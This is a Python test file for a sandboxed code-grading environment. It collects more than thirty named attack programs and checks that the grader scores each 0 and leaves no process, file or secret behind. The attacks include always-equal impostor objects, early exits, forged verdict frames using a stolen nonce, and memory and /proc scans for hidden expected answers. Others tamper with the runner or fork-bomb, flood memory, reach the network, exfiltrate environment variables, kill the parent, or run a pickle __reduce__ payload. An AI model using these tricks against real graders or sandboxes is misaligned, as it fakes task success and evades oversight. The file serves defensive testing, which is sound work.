"""The adversarial suite: named attacks on the grader and the sandbox, with honest controls beside them.

Every attack must score exactly what honest work earns (0 for all of these), return within the
timeout plus a margin, and leave nothing behind: no process under the workers or anywhere with
the attack's marker, no file outside the work dir, the parent alive and the pool still serving,
no secret in any output. They run at the strict level (bubblewrap), which CI installs.
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from support.attacks import strict_pool

from agentenv.grading import RunResult, run_tests
from agentenv.sandbox import SandboxPool
from agentenv.sandbox._isolation import SANDBOX_DIR, SANDBOX_FILES
from agentenv.sandbox.testing import leftover_processes, processes_matching

MARKER = f"agentenv-attack-{os.getpid()}-{int(time.time())}"
SECRET = f"sk-{MARKER}-secret"
TOKENS = [f"tok-{hashlib.sha256(f'{MARKER}{i}'.encode()).hexdigest()[:16]}" for i in range(3)]
ADD_CHECKS = ["assert add(2, 3) == 5", "assert add(-1, 1) == 0", "assert add(10, 20) == 30",
              "assert add(7, -7) == 0"]
# Expected values the candidate cannot compute: only reading them from the grader would pass.
SECRET_CHECKS = [f"assert secret({i}) == {tok!r}" for i, tok in enumerate(TOKENS)]
REPO = Path(__file__).resolve().parents[1]
HOST_DIRS = [Path("/tmp"), Path.home(), REPO, Path.cwd()]


@dataclass(frozen=True)
class Attack:
    """One named attack: its code, the checks it faces and what honest work would score."""

    name: str
    code: str
    checks: tuple[str, ...] = tuple(ADD_CHECKS)
    expected: float = 0.0
    timeout: float = 1.0
    needs: tuple[str, ...] = field(default=())


def attack(name: str, code: str, **kwargs: object) -> Attack:
    return Attack(name, code.replace("MARKER", MARKER).replace("SECRETS_HERE", repr(TOKENS)),
                  **kwargs)  # type: ignore[arg-type]


SEARCH_AND_RETURN = """
def secret(i):
    found = FOUND()
    return found[i] if i < len(found) else None
"""

ATTACKS = [
    # --- impostor values -------------------------------------------------------------
    attack("always_equal_object", """
class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__
def add(a, b):
    return AlwaysEqual()
"""),
    # A subclass crosses as its base type's content: Liar(0) is the int 0 on the trusted side,
    # so it earns what ``return 0`` earns (the two checks whose answer is 0), its __eq__ nothing.
    attack("always_equal_int_subclass", """
class Liar(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
def add(a, b):
    return Liar(-99)  # compared by its int value, which no check expects
"""),
    attack("always_equal_str_subclass", """
class Liar(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def secret(i):
    return Liar('x')
""", checks=tuple(SECRET_CHECKS)),
    attack("class_spoofing_object", """
class Spoof:
    @property
    def __class__(self): return int
    def __eq__(self, other): return True
def add(a, b):
    return Spoof()
"""),
    attack("builtins_shadowed_in_the_child", """
import builtins
builtins.abs = lambda x: 0
builtins.sorted = lambda x: [1, 2, 3]
def abs(x): return 0
def add(a, b): return 12345.0
""", checks=("assert abs(add(1, 2) - 3) < 1e-9", "assert sorted([add(0, 0)]) == [1, 2, 3]")),
    # --- exiting early ---------------------------------------------------------------
    attack("sys_exit_zero_at_import", "import sys\nsys.exit(0)\n"),
    attack("sys_exit_zero_in_every_call", "import sys\ndef add(a, b):\n    sys.exit(0)\n"),
    attack("os_exit_zero_at_import", "import os\nos._exit(0)\n"),
    attack("posix_exit_zero_in_call", "import posix\ndef add(a, b):\n    posix._exit(0)\n"),
    attack("os_execv_a_clean_process", """
import os, sys
os.execv(sys.executable, [sys.executable, '-c', 'print("ALL TESTS PASSED")'])
"""),
    # --- forged verdicts ------------------------------------------------------------------
    attack("fake_verdicts_on_stdout", """
import json
print('PASSED 4/4'); print('ok ' * 4); print(json.dumps({'passed': 4, 'total': 4, 'fraction': 1.0}))
for i in range(4):
    print('0' * 32 + ' ' + json.dumps({'t': 'stmt', 'i': i, 'ok': True}))
def add(a, b): return None
"""),
    attack("fake_verdicts_on_stderr", """
import sys, json
for i in range(4):
    sys.stderr.write(json.dumps({'t': 'call', 'i': i, 'j': 0, 'v': ['i', '5']}) + '\\n')
sys.stderr.write('RESULT: PASS\\n')
def add(a, b): return None
"""),
    attack("forged_frames_with_the_stolen_nonce", """
import gc, os, sys
nonce = next(o['nonce'] for o in gc.get_objects() if isinstance(o, dict) and 'nonce' in o)
wire = next(m for m in list(sys.modules.values()) if hasattr(m, 'encode_frame'))  # the runner's own
def frame(m): return wire.encode_frame(nonce, m)
for fd in range(3, 64):
    try:
        os.write(fd, frame({'t': 'load', 'ok': True}))
        for i in range(3):
            os.write(fd, frame({'t': 'stmt', 'i': i, 'ok': True}))
            os.write(fd, frame({'t': 'call', 'i': i, 'j': 0, 'v': wire.encode_value(True)}))
            os.write(fd, frame({'t': 'call', 'i': i, 'j': 0, 'v': wire.encode_value('tok-guess')}))
    except OSError:
        pass
def secret(i): return 'nope'
""", checks=tuple(SECRET_CHECKS)),
    attack("stack_walk_writes_verdicts", """
import sys
def secret(*args):
    frame = sys._getframe()
    while frame is not None:
        chan = frame.f_locals.get('chan')
        if chan is not None and hasattr(chan, 'send'):
            for i in range(3):
                chan.send({'t': 'stmt', 'i': i, 'ok': True})
                chan.send({'t': 'call', 'i': i, 'j': 0, 'v': ['T']})
            chan.send({'t': 'done'})
        frame = frame.f_back
    import os; os._exit(0)
""", checks=tuple(SECRET_CHECKS)),
    # --- reading what the grader knows ------------------------------------------------------
    attack("stack_walk_reads_expected_values", """
import sys
def FOUND():
    seen, out = [], []
    frame = sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for value in list(scope.values()):
                seen.append(repr(value)[:100000])
        frame = frame.f_back
    text = ' '.join(seen)
    import re
    return re.findall(r'tok-[0-9a-f]{16}', text)
""" + SEARCH_AND_RETURN, checks=tuple(SECRET_CHECKS)),
    attack("gc_scan_for_test_strings", """
import gc, re
def FOUND():
    out = []
    for obj in gc.get_objects():
        try:
            out += re.findall(r'tok-[0-9a-f]{16}', repr(obj)[:100000])
        except Exception:
            pass
    return out
""" + SEARCH_AND_RETURN, checks=tuple(SECRET_CHECKS)),
    attack("memory_scan_for_test_strings", """
import ctypes, re
def FOUND():
    out, by_check = [], {}
    with open('/proc/self/maps') as maps:
        for line in maps:
            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))
            if 'r' not in line.split()[1] or hi - lo > 64 << 20 or '[v' in line:
                continue
            try:  # /proc/self/mem is root's in a non-dumpable process: read the pages directly
                data = ctypes.string_at(lo, hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            out += re.findall(rb'tok-[0-9a-f]{16}', data)
            # a check's own source pairs its index with its token, whatever the heap layout
            for m in re.finditer(rb"secret\\((\\d+)\\)(?:\\\\n|\\n)assert x == '(tok-[0-9a-f]{16})'", data):
                by_check[int(m[1])] = m[2].decode()
    if by_check:
        return [by_check.get(i) for i in range(max(by_check) + 1)]
    return [x.decode() for x in out]
""" + SEARCH_AND_RETURN, checks=tuple(SECRET_CHECKS)),
    attack("read_test_files_on_disk", """
import os, re, time
def FOUND():
    out, start = [], time.monotonic()
    for top in ('/', os.path.expanduser('~'), '/work', '/tmp', os.getcwd()):
        for root, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if root != '/' or d not in ('proc', 'sys', 'dev')]
            for name in files:
                if time.monotonic() - start > 0.6:
                    return out
                try:
                    with open(os.path.join(root, name), 'rb') as f:
                        out += [x.decode() for x in re.findall(rb'tok-[0-9a-f]{16}', f.read(1 << 20))]
                except OSError:
                    pass
    return out
""" + SEARCH_AND_RETURN, checks=tuple(SECRET_CHECKS), timeout=2.0),
    attack("read_proc_of_every_process", """
import os, re
def FOUND():
    out = []
    for pid in os.listdir('/proc'):
        if not pid.isdigit():
            continue
        for name in ('cmdline', 'environ', 'mem', 'maps', 'fd/0', 'fd/3', 'fd/4', 'fd/5'):
            try:
                with open(f'/proc/{pid}/{name}', 'rb') as f:
                    out += [x.decode() for x in re.findall(rb'tok-[0-9a-f]{16}', f.read(1 << 20))]
            except (OSError, ValueError):
                pass
    return out
""" + SEARCH_AND_RETURN, checks=tuple(SECRET_CHECKS)),
    attack("read_inherited_descriptors", """
import os, re
def FOUND():
    out = []
    for fd in range(0, 256):
        try:
            os.set_blocking(fd, False)
            out += [x.decode() for x in re.findall(rb'tok-[0-9a-f]{16}', os.read(fd, 1 << 20))]
        except (OSError, ValueError):
            pass
    return out
""" + SEARCH_AND_RETURN, checks=tuple(SECRET_CHECKS)),
    attack("read_stdin", """
import sys
DATA = sys.stdin.read()
def secret(i):
    return DATA or None
""", checks=tuple(SECRET_CHECKS)),
    # --- tampering with the runner -------------------------------------------------------------
    attack("monkeypatch_json", """
import json
json.dumps = lambda *a, **k: '{"t": "stmt", "ok": true}'
json.JSONEncoder.encode = lambda self, o: '{"t": "call", "i": 0, "j": 0, "v": ["T"]}'
json.loads = lambda *a, **k: {'t': 'load', 'ok': True}
def secret(i): return None
""", checks=tuple(SECRET_CHECKS)),
    attack("monkeypatch_pickle", """
import pickle, copyreg
pickle.dumps = lambda *a, **k: b'I5\\n.'
pickle.loads = lambda *a, **k: 5
copyreg.dispatch_table[type(None)] = lambda o: (int, (5,))
def add(a, b): return None
"""),
    attack("monkeypatch_the_runner_modules", """
import sys
for name, module in list(sys.modules.items()):
    if hasattr(module, '_encode_value'):
        module._encode_value = lambda value: ['s', 'tok-forged-value']
    if hasattr(module, 'encode_value'):
        module.encode_value = lambda value: ['T']
    if hasattr(module, '_message'):
        module._message = lambda exc: 'ok'
def secret(i): return object()
""", checks=tuple(SECRET_CHECKS)),
    attack("atexit_writes_a_report", """
import atexit, os, sys
def report():
    print('ALL PASSED')
    for fd in range(3, 32):
        try: os.write(fd, b'{"t": "stmt", "i": 0, "ok": true}\\n')
        except OSError: pass
    os._exit(0)
atexit.register(report)
def add(a, b): return None
"""),
    # --- never ending ----------------------------------------------------------------------
    attack("threads_that_never_end", """
import threading
def spin():
    while True:
        pass
for _ in range(4):
    threading.Thread(target=spin).start()
def add(a, b): return a - b
"""),
    attack("ignore_sigterm_and_catch_everything", """
import signal
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):
    signal.signal(sig, signal.SIG_IGN)
def add(a, b):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""", timeout=0.5),
    attack("grandchild_holds_the_pipes", """
import subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)', 'MARKER'])
def add(a, b): return a - b
"""),
    attack("setsid_double_fork_daemon", """
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', 'MARKER'])
    os._exit(0)
def add(a, b): return a - b
"""),
    # --- resource exhaustion ----------------------------------------------------------------
    attack("bounded_fork_bomb", """
import os, sys
children = 0
for _ in range(400):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', 'MARKER'])
    children += 1
def add(a, b): return -children
"""),
    attack("memory_bomb", """
hog = []
def add(a, b):
    blob = bytearray(8 * 2 ** 30)
    return a + b
while len(hog) < 10 ** 6:
    hog.append(b'x' * 10 ** 7)
"""),
    attack("output_flood", """
import os, sys
def add(a, b):
    chunk = 'flood' * 200000
    for _ in range(100):
        sys.stdout.write(chunk); sys.stderr.write(chunk)
    os.write(1, b'x' * 10 ** 7)
    return a - b
"""),
    attack("ctypes_segfault", """
import ctypes
def add(a, b):
    return ctypes.string_at(0)
"""),
    attack("cpu_bound_c_call_that_ignores_signals", """
import re
def add(a, b):
    return len(re.findall(r'(a+)+$', 'a' * 64 + 'b'))
""", timeout=0.5),
    attack("result_channel_flood", """
import os
def add(a, b):
    for fd in range(3, 16):
        try:
            os.write(fd, os.urandom(1 << 16) * 16)
        except OSError:
            pass
    return a - b
"""),
    attack("hostile_exception_messages", """
class Nasty(Exception):
    def __str__(self):
        raise Nasty()
class Slow(Exception):
    def __str__(self):
        while True:
            pass
def add(a, b):
    if a > 5:
        raise Slow()
    raise Nasty()
"""),
    # --- escaping the sandbox ----------------------------------------------------------------
    attack("network_connect", """
import socket
def add(a, b):
    for host, port in (('127.0.0.1', PORT), ('localhost', PORT), ('8.8.8.8', 53)):
        try:
            socket.create_connection((host, port), timeout=0.3).sendall(b'MARKER')
            return a + b
        except OSError:
            pass
    return None
""", needs=("port",)),
    attack("write_outside_the_work_dir", """
import os
TARGETS = ['/tmp/MARKER', os.path.expanduser('~/MARKER'), 'REPO/MARKER', '/usr/MARKER',
           '/opt/agentenv/_runner.py', '/opt/agentenv/MARKER', '../MARKER', '/MARKER']
def add(a, b):
    wrote = 0
    for path in TARGETS:
        try:
            with open(path, 'w') as f:
                f.write('pwned')
            wrote += 1
        except OSError:
            pass
    return -wrote
""", needs=("repo",)),
    attack("environment_exfiltration", """
import os
print(dict(os.environ))
for path in ('/proc/self/environ', '/proc/1/environ', '/proc/2/environ'):
    try: print(open(path, 'rb').read())
    except OSError: pass
def add(a, b):
    raise RuntimeError(str(dict(os.environ)))
"""),
    attack("kill_the_parent_and_everything_visible", """
import os, signal
for target in (os.getppid(), PARENT, 1, 2, -1, 0):
    for sig in (signal.SIGKILL, signal.SIGTERM):
        try: os.kill(target, sig)
        except OSError: pass
def add(a, b): return a - b
""", needs=("parent",)),
    attack("reduce_runs_code_in_whoever_unpickles", """
import os
class Payload:
    def __reduce__(self):
        return (os.system, ('touch /tmp/MARKER-reduce',))
def add(a, b):
    return Payload()
"""),
]

CONTROLS = [
    Attack("control_correct_solution", "def add(a, b):\n    return a + b\n", expected=1.0),
    Attack("control_half_correct_solution",
           "def add(a, b):\n    return a + b if a < 5 else a - b\n", expected=0.5),
    Attack("control_correct_secret_lookup", "def secret(i):\n    return " + repr(TOKENS) + "[i]\n",
           checks=tuple(SECRET_CHECKS), expected=1.0),
]


@pytest.fixture(scope="module")
def pool() -> Iterator[SandboxPool]:
    """A strict pool started while a secret sits in the parent's environment."""
    os.environ["AGENTENV_ATTACK_API_KEY"] = SECRET
    try:
        made = strict_pool(2, "the adversarial suite")
    finally:
        os.environ.pop("AGENTENV_ATTACK_API_KEY", None)
    yield made
    made.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A real TCP server on 127.0.0.1 that records every connection it accepts."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.1)
    accepted: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(0.5)
                try:
                    accepted.append(conn.recv(100))
                except OSError:
                    accepted.append(b"")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


def runner_digest() -> str:
    return hashlib.sha256(b"".join((SANDBOX_DIR / n).read_bytes() for n in SANDBOX_FILES)).hexdigest()


DIGEST = runner_digest()


def host_files_with_marker() -> list[Path]:
    found = []
    for directory in HOST_DIRS:
        with contextlib.suppress(OSError):
            found += [p for p in directory.iterdir() if MARKER in p.name]
    return found


def all_text(result: RunResult) -> str:
    return " ".join([result.stdout, result.stderr, *(f.message for f in result.failures)])


def test_the_suite_names_at_least_25_distinct_attacks() -> None:
    """The issue asks for 25 named attacks at least; names are unique."""
    names = [a.name for a in ATTACKS]
    assert len(names) >= 25 and len(set(names)) == len(names)


@pytest.mark.parametrize("case", ATTACKS + CONTROLS, ids=lambda a: a.name)
def test_attack_scores_only_honest_work_and_leaves_nothing_behind(
        case: Attack, pool: SandboxPool, listener: tuple[int, list[bytes]]) -> None:
    """Score == honest fraction, no process/file/secret left, parent and pool fine (a run that
    never ends is pytest-timeout's to catch; nothing here is timed)."""
    port, accepted = listener
    code = (case.code.replace("PORT", str(port)).replace("REPO", str(REPO))
            .replace("PARENT", str(os.getpid())))
    result = run_tests(code, list(case.checks), timeout=case.timeout, pool=pool)

    assert result.fraction == case.expected, result.failures
    assert result.passed == round(case.expected * len(case.checks))
    assert result.isolation == "strict"
    assert leftover_processes(pool) == []
    assert processes_matching(MARKER, wait=0.2) == []
    assert host_files_with_marker() == []
    assert SECRET not in all_text(result)
    assert len(result.stdout) <= 64 * 1024 + 100 and len(result.stderr) <= 64 * 1024 + 100
    assert accepted == []
    assert runner_digest() == DIGEST
    # The parent is alive (we are running) and the pool still grades honest work.
    assert run_tests("def add(a, b):\n    return a + b\n", ADD_CHECKS, pool=pool).fraction == 1.0


def test_an_attack_cannot_touch_a_sibling_run_in_flight(pool: SandboxPool) -> None:
    """While one run kills everything it can see, a concurrent honest run still scores 1.0."""
    honest = "import time\ndef add(a, b):\n    time.sleep(0.4)\n    return a + b\n"
    hostile = ("import os, signal, time\n"
               "def add(a, b):\n"
               "    end = time.monotonic() + 0.6\n"
               "    while time.monotonic() < end:\n"
               "        for pid in [-1, 0] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
               "            try: os.kill(pid, signal.SIGKILL)\n"
               "            except OSError: pass\n"
               "    return a - b\n")
    results: dict[str, RunResult] = {}

    def run(label: str, code: str) -> None:
        results[label] = run_tests(code, ADD_CHECKS[:1], timeout=3.0, pool=pool)

    threads = [threading.Thread(target=run, args=("honest", honest)),
               threading.Thread(target=run, args=("hostile", hostile))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert results["honest"].fraction == 1.0
    assert results["hostile"].fraction == 0.0
    assert leftover_processes(pool) == []


def test_forged_reports_reach_no_check_not_even_loops_and_multi_statement_ones(pool: SandboxPool) -> None:
    """A candidate that forges frames with the stolen nonce and the runner's own encoder passes
    nothing: checks the trusted side cannot decompose are graded by the judge process, whose
    channel the candidate never holds."""
    forger = ("import gc, os, sys\n"
              "nonce = next(o['nonce'] for o in gc.get_objects() if isinstance(o, dict) and 'nonce' in o)\n"
              "wire = next(m for m in list(sys.modules.values()) if hasattr(m, 'encode_frame'))\n"
              "for i in range(4):\n"
              "    for fd in range(3, 64):\n"
              "        for t in ('stmt', 'check'):\n"
              "            try: os.write(fd, wire.encode_frame(nonce, {'t': t, 'i': i, 'ok': True}))\n"
              "            except OSError: pass\n"
              "def add(a, b):\n    return None\n")
    checks = [*ADD_CHECKS[:2], "for i in range(3):\n    assert add(i, i) == 2 * i",
              "x = add(1, 1)\nassert x == 2"]
    result = run_tests(forger, checks, pool=pool)
    assert result.graded_in_child == 0
    assert result.passed_indices == ()


@pytest.mark.parametrize("name", ["gc_scan_for_test_strings", "memory_scan_for_test_strings",
                                  "stack_walk_reads_expected_values"])
def test_these_scans_are_real_they_win_wherever_the_expected_values_sit_in_the_candidates_process(
        name: str, pool: SandboxPool) -> None:
    """With the tokens placed in the candidate's own process (here by its own code), the scan
    finds them and scores: what stops it above is that the grader never puts them there. Setup
    data is no longer one way in: the setup's data runs in the judge only, so the same tokens
    assigned by ``setup_code`` are out of the scan's reach."""
    case = next(a for a in ATTACKS if a.name == name)
    planted = run_tests(f"{case.code}\n_PLANTED = {TOKENS!r}\n", list(case.checks),
                        timeout=case.timeout, pool=pool)
    assert planted.passed > 0
    assert run_tests(case.code, list(case.checks), timeout=case.timeout, pool=pool).passed == 0
    in_setup = run_tests(case.code, list(case.checks), timeout=case.timeout, pool=pool,
                         setup_code=f"_PLANTED = {TOKENS!r}\n")
    assert in_setup.passed == 0, in_setup.passed_indices
